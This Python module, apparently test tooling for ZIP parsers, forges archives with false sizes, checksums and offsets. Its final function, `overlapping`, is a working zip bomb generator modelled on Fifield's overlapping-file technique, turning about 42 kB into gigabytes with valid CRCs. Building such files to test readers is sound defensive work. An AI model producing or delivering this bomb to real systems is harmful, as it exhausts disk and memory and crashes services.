"""Writes ZIP files byte by byte, so that any statement in them can be a lie."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from functools import reduce
from operator import xor

ENCRYPTED, STRONGLY, UTF8 = 0x1, 0x40, 0x800
STORED, DEFLATED = 0, 8


@dataclass(frozen=True, slots=True)
class Forged:
    """One file; `packed` as it lies in the archive, `size` and `crc` as the archive says of what is unpacked."""

    name: bytes
    packed: bytes
    size: int
    crc: int
    method: int = DEFLATED
    flags: int = 0
    mode: int = 0o100644
    offset: int | None = None


def deflated(name: str | bytes, content: bytes, *, flags: int = 0, mode: int = 0o100644) -> Forged:
    """An honest file; a name given as text is marked as UTF-8."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    if isinstance(name, str):
        name, flags = name.encode(), flags | UTF8
    return Forged(name, packed, len(content), zlib.crc32(content), flags=flags, mode=mode)


def zeros(size: int) -> tuple[bytes, int]:
    """So many zeros, deflated, and their CRC; made in pieces."""
    packer, piece = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(1 << 20)
    packed, crc = [], 0
    for _ in range(size >> 20):
        packed.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
    return b"".join([*packed, packer.flush()]), crc


def local(file: Forged) -> bytes:
    """The file with its own header, as it lies in the archive."""
    sizes = (file.crc, len(file.packed), file.size)
    return struct.pack("<4s5H3L2H", b"PK\3\4", 20, file.flags, file.method, 0, 33, *sizes, len(file.name), 0) + (
        file.name + file.packed
    )


def central(file: Forged, packed_size: int, offset: int) -> bytes:
    """The file's line in the table of contents."""
    fixed = (20, 3, 20, 0, file.flags, file.method, 0, 33, file.crc, packed_size, file.size, len(file.name))
    return struct.pack("<4s4B4H3L5H2L", b"PK\1\2", *fixed, 0, 0, 0, 0, file.mode << 16, offset) + file.name


def end(count: int, size: int, offset: int) -> bytes:
    """The end record: how many files, and where the table of contents lies."""
    return struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, size, offset, 0)


def end64(count: int, size: int, offset: int, at: int) -> bytes:
    """The same for large archives, which lies at `at` bytes."""
    record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    return record + locator + end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)


def forged(files: Sequence[Forged], *, prefix: bytes = b"") -> bytes:
    """The archive; a file with an offset of its own is in the table of contents only."""
    body, lines = bytearray(prefix), []
    for file in files:
        lines.append(central(file, len(file.packed), len(body) if file.offset is None else file.offset))
        if file.offset is None:
            body += local(file)
    table = b"".join(lines)
    return bytes(body) + table + end(len(files) & 0xFFFF, len(table), len(body))


def overlapping(count: int, kernel_size: int) -> bytes:
    """Files that each quote the next one's header and all end in the same zeros: 42 kB that unpack to gigabytes.

    After David Fifield, A better zip bomb (WOOT 2019); the checksums are right.
    """
    packed, crc_of_zeros = zeros(kernel_size)
    after_zeros = [zlib.crc32(bytes(kernel_size), 1 << bit) ^ crc_of_zeros for bit in range(32)]
    body, lines, headers = packed, [], b""
    size, packed_size, crc = kernel_size, len(packed), crc_of_zeros
    for number in range(count, 0, -1):
        file = Forged(b"%03d.txt" % number, b"", size, crc)
        header = local(file)[:18] + struct.pack("<L", packed_size) + local(file)[22:]
        quote = struct.pack("<B2H", 0, len(header), len(header) ^ 0xFFFF)
        lines.insert(0, central(file, packed_size, (number - 1) * (len(quote) + len(header))))
        body, headers = header + body, header + headers
        if number > 1:
            body = quote + body
        size, packed_size = size + len(header), packed_size + len(quote) + len(header)
        start = zlib.crc32(headers)
        crc = reduce(xor, (after_zeros[bit] for bit in range(32) if start >> bit & 1), crc_of_zeros)
    table = b"".join(lines)
    return body + table + end(count, len(table), len(body))
